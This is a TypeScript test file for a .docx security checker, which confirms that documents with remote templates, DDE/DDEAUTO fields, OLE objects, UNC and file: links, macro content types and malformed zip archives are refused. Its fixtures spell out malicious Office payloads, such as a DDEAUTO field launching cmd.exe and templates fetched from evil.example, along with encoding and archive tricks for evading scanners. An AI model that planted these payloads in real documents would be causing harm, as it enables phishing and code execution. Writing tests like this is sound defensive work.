import { expect, test } from "vitest";
import { docxFile, zipFile } from "../../test/support/zip-file.ts";
import { checkDocx } from "./check-docx.ts";

const KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relationship = (kind: string, target: string, more = "") =>
  `<Relationship Id="rId1" Type="${KINDS}/${kind}" Target="${target}" ${more}/>`;
const OUTSIDE = 'TargetMode="External"';
const withLinks = (link: string, name = "word/_rels/document.xml.rels") =>
  checkDocx(
    docxFile({
      name,
      content: `<?xml version="1.0" encoding="UTF-8"?><Relationships>${link}</Relationships>`,
    }),
  );
const withText = (text: string, name = "word/footer1.xml") => checkDocx(docxFile({ name, content: text }));

test.each([
  ["a template of another computer", relationship("attachedTemplate", "\\\\evil.example\\a.dotm", OUTSIDE)],
  ["a template by the web", relationship("attachedTemplate", "https://evil.example/a.dotm", OUTSIDE)],
  ["a picture by the web", relationship("image", "https://evil.example/a.png", OUTSIDE)],
  [
    "a picture of another computer that is called the document's own",
    relationship("image", "//evil.example/a.png"),
  ],
  ["a frame", relationship("frame", "https://evil.example/", OUTSIDE)],
  ["a document inside", relationship("subDocument", "a.docx", OUTSIDE)],
  ["another program's object under any name", relationship("oleObject", "media/image1.bin")],
  ["a packed file", relationship("package", "media/a.xlsx")],
  ["a control", relationship("control", "media/a.xml")],
  ["text in another format", relationship("aFChunk", "a.html")],
  ["a link that opens a file", relationship("hyperlink", "file:///C:/Windows/cmd.exe", OUTSIDE)],
  ["a link to another computer", relationship("hyperlink", "\\\\evil.example\\a", OUTSIDE)],
  [
    "a kind written in codes",
    `<Relationship Id="a" Type="${KINDS}/attached&#84;emplate" Target="https://evil.example/" TargetMode='External'/>`,
  ],
  [
    "a mode written in codes",
    `<x:Relationship Id="a" Type="${KINDS}/image" Target="&#104;ttps://evil.example/" TargetMode="Exter&#x6e;al"/>`,
  ],
  [
    "a bracket within a value before it",
    `<Relationship Id="a>" Type="${KINDS}/attachedTemplate" Target="https://evil.example/" ${OUTSIDE}/>`,
  ],
  [
    "a prefix of other letters",
    `<a-é.b:Relationship Id="a" Type="${KINDS}/attachedTemplate" Target="https://evil.example/" ${OUTSIDE}/>`,
  ],
  [
    "another target within a value",
    `<Relationship Id=" Type='a' Target='x' TargetMode='Internal' " Type="${KINDS}/image" Target="https://evil.example/" ${OUTSIDE}/>`,
  ],
  ["a link that runs a script", relationship("hyperlink", "javascript:alert(1)", OUTSIDE)],
  ["a space before the address", relationship("image", "&#9;https://evil.example/a.png")],
])("%s is refused", (_, link) => {
  expect(withLinks(link)).toBe("has-scripts");
  expect(withLinks(link, "word/_rels/settings.xml.rels")).toBe("has-scripts");
  expect(withLinks(link, "_rels/.rels")).toBe("has-scripts");
});

test.each([
  ["a program that starts", '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'],
  [
    "one in pieces",
    "<w:instrText> DD</w:instrText><w:r/><w:instrText xml:space='preserve'>EAUTO x</w:instrText>",
  ],
  ["one in short form", `<w:fldSimple w:instr=' DDE Excel "a" '/>`],
  ["one under another prefix", "<a:instrText>DDE x y</a:instrText>"],
  ["a picture that is fetched", `<w:instrText>INCLUDEPICTURE "https://evil.example/a.png"</w:instrText>`],
  ["a text that is fetched", `<w:instrText>&#73;NCLUDETEXT "\\\\evil\\a"</w:instrText>`],
  ["a part of another document", "<w:instrText>LINK Excel.Sheet.8 a.xls</w:instrText>"],
  ["one behind a comment", "<w:instrText>DDE<!-- > -->AUTO x</w:instrText>"],
  ["one behind an instruction for programs", "<w:instrText>DDE<?a b?>AUTO x</w:instrText>"],
  ["one with a prefix of other letters", '<a-é:fldSimple a-é:instr="DDE Excel x"/>'],
  ["text with a prefix of other letters", "<a-é:instrText>DDE Excel x</a-é:instrText>"],
  ["a word by the numbers of its letters", "<w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText>"],
  ["a link that opens a file", '<w:instrText>HYPERLINK "file:///C:/a.exe"</w:instrText>'],
  ["a link to another computer", '<w:instrText>HYPERLINK "\\\\evil\\a"</w:instrText>'],
])("%s as a field is refused, in every part", (_, text) => {
  expect(withText(text)).toBe("has-scripts");
  expect(withText(text, "docs/main.xml")).toBe("has-scripts");
});

test.each([
  ["a picture by the web in the older language", '<v:imagedata src="https://evil.example/a.png"/>'],
  ["a filling of another computer", "<v:fill o:href='\\\\evil.example\\a.png'/>"],
  ["a list of addresses from a database", "<w:mailMerge><w:query w:val='SELECT'/></w:mailMerge>"],
])("%s is refused", (_, text) => {
  expect(withText(text)).toBe("has-scripts");
});

test("parts that say they are macros or objects are refused, and what is written so that it cannot be read too", () => {
  const types = (content: string) => withText(content, "[Content_Types].xml");
  expect(
    types(
      '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    ),
  ).toBe("has-scripts");
  expect(
    types('<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
  ).toBe("has-scripts");
  expect(withText("<!DOCTYPE a [<!ENTITY b 'DDE'>]><w:instrText>&b; x</w:instrText>")).toBe("unreadable");
  expect(withText('<?xml version="1.0" encoding="UTF-16"?><a/>')).toBe("unreadable");
  expect(withText("<w:instrText><![CDATA[DDE x y]]></w:instrText>")).toBe("unreadable");
  const main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
  expect(types(`<Override PartName="/word/main.png" ContentType="${main}"/>`)).toBe("unreadable");
  expect(types(`<a:Default Extension="png" ContentType="${main}"/>`)).toBe("unreadable");
  expect(types(`<Override PartName="/word/document.xml" ContentType="${main}"/>`)).toBeNull();
});

test.each(["<!--", "<?", "<w:instrText>", '<w:instrText a="', "<Relationship ", "<a:"])(
  "a part that is nothing but %s is looked through once",
  (words) => {
    // A second on a slow machine; by the square of its length it would take hours, and the test would not end in its time.
    expect(withText(words.repeat(300_000))).toBeNull();
  },
);

const LONG = 3_000_000;

test.each([
  ["a tag's name of three million letters", `<w:fldSimple ${"a".repeat(LONG)}/>`],
  ["three million letters of names of attributes", `<w:fldSimple ${"a ".repeat(LONG / 2)}/>`],
  ["a value of three million letters", `<w:fldSimple w:instr="${"a".repeat(LONG)}"/>`],
  ["a field with three million spaces", `<w:instrText>HYPERLINK ${" ".repeat(LONG)}</w:instrText>`],
  [
    "a field with spaces on both sides of a quote",
    `<w:instrText>HYPERLINK ${" ".repeat(LONG)}"${" ".repeat(LONG)}.</w:instrText>`,
  ],
])("%s is looked through once, or refused", (_, text) => {
  expect([null, "unreadable"]).toContain(withText(text));
});

test("what Word writes by itself, and links to web pages and addresses, are taken", () => {
  const links = [
    relationship("styles", "styles.xml"),
    relationship("image", "media/photo.png"),
    relationship("hyperlink", "https://www.example.org/rina", OUTSIDE),
    relationship("hyperlink", "mailto:rina@example.com", OUTSIDE),
  ];
  expect(withLinks(links.join(""))).toBeNull();
  const fields =
    ' PAGE  </w:instrText><w:instrText> HYPERLINK "https://www.example.org/link" </w:instrText><w:instrText> HYPERLINK \\l "top" </w:instrText>';
  expect(withText(`<w:instrText>${fields}<w:t>The rest of DDE and a link to include.</w:t>`)).toBeNull();
});

const LINKS = `<Relationships>${relationship("attachedTemplate", "https://evil.example/a.dotm", OUTSIDE)}</Relationships>`;
const hidden = docxFile({ name: "word/_rels/settings.xml.rels", content: LINKS });
const plain = docxFile({ name: "word/styles.xml", content: "<w:styles/>" });
/** An archive behind other bytes, its places moved. */
function behind(front: Uint8Array, archive: Buffer): Buffer {
  const whole = Buffer.concat([front, archive]);
  const end = whole.length - 22;
  const directory = whole.readUInt32LE(end + 16) + front.length;
  whole.writeUInt32LE(directory, end + 16);
  for (let at = directory; at < end; at += 46 + whole.readUInt16LE(at + 28)) {
    whole.writeUInt32LE(whole.readUInt32LE(at + 42) + front.length, at + 42);
  }
  return whole;
}
function changed(file: Buffer, change: (file: Buffer, end: number) => void): Buffer {
  const copy = Buffer.from(file);
  change(copy, copy.length - 22);
  return copy;
}

test.each([
  [
    "one behind the other, the first of which some read",
    changed(Buffer.concat([hidden, plain]), (file) => file.writeUInt16LE(plain.length, hidden.length - 2)),
  ],
  ["one behind the other with places of its own", behind(hidden, plain)],
  ["an end that is not at the end", Buffer.concat([hidden, Buffer.from("x")])],
  [
    "a directory that says fewer parts than it has",
    changed(hidden, (file, end) => {
      for (const field of [8, 10]) file.writeUInt16LE(2, end + field);
    }),
  ],
  [
    "a directory that says fewer parts of this disk",
    changed(hidden, (file, end) => file.writeUInt16LE(3 - 1, end + 8)),
  ],
  ["a directory of another length", changed(hidden, (file, end) => file.writeUInt32LE(10, end + 12))],
  [
    "a part that has another name at its content",
    changed(plain, (file) => file.write("word/settings", file.indexOf("word/styles.xml"))),
  ],
  [
    "a part that is packed otherwise at its content",
    changed(plain, (file) => file.writeUInt16LE(0, file.indexOf("word/styles.xml") - 30 + 8)),
  ],
])("an archive that two readers read differently is none: %s", (_, file) => {
  expect(checkDocx(plain)).toBeNull();
  expect(checkDocx(file)).toBe("unreadable");
});

test.each([
  ["codes", "word/_rels/settings.xml.%72els"],
  ["the other slash", "word\\_rels\\settings.xml.rels"],
  ["capitals", "WORD/_RELS/SETTINGS.XML.RELS"],
  ["a slash before it", "/word/_rels/settings.xml.rels"],
])("a part's name is read as a word processor reads it: with %s", (_, name) => {
  expect(checkDocx(docxFile({ name, content: LINKS }))).toBe("has-scripts");
  const program = name.replace(/_rels(.)settings\.xml\.(%72els|rels)/i, "vbaProject%2ebin");
  expect(checkDocx(docxFile({ name: program, content: "x" }))).toBe("has-scripts");
});

test("a part in pieces is not taken: none of them would be looked at", () => {
  const piece = (name: string) => ({ name: `word/_rels/settings.xml.rels/${name}.piece`, content: LINKS });
  expect(checkDocx(zipFile([{ name: "word/document.xml", content: "x" }, piece("[0].last")]))).toBe(
    "unreadable",
  );
});

test("of two parts of one name both are looked at", () => {
  const parts = (...texts: string[]) =>
    docxFile(...texts.map((content) => ({ name: "word/_rels/settings.xml.rels", content })));
  expect(checkDocx(parts(LINKS, "<Relationships/>"))).toBe("has-scripts");
  expect(checkDocx(parts("<Relationships/>", LINKS))).toBe("has-scripts");
});
